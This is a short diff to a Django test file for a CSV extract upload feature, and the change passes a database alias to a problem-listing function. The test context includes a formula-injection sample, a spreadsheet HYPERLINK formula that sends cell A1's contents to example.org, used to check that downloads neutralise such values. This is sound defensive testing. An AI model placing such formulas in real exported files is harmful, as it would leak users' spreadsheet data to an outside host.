@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import TemporaryUploadedFile
+from django.db import DEFAULT_DB_ALIAS
 
 from indicators.extracts import problems, service
 from indicators.extracts.models import Extract, ProblemRow, extract_storage
@@ -184,7 +185,7 @@ class TestNothingOfARowIsKept:
         extract = past_the_door(csv_of([figure()]) + f"{self.SECRET},1980-02-29\r\n".encode())
         assert extract.state == Extract.State.FAILED
         assert [(place.row, place.column, place.value) for place in ProblemRow.objects.all()] == [(3, "", "")]
-        assert not any(self.SECRET in str(line) for line in problems.lines(extract))
+        assert not any(self.SECRET in str(line) for line in problems.lines(extract, DEFAULT_DB_ALIAS))
 
 
 class TestPlaces:
@@ -276,7 +277,7 @@ def test_texts_that_a_spreadsheet_would_run_are_data_here_and_harmless_in_downlo
     formula = '=HYPERLINK("http://example.org/"&A1,"x")'
     assert cells(csv_of([figure(source=formula)]))[0][-1] == formula
     extract = checked(csv_of([figure(cohort=formula)]))
-    values = [str(cell) for line in problems.lines(extract) for cell in line]
+    values = [str(cell) for line in problems.lines(extract, DEFAULT_DB_ALIAS) for cell in line]
     assert f"'{formula}" in values
     assert not any(value.startswith(("=", "+", "@")) for value in values)
 
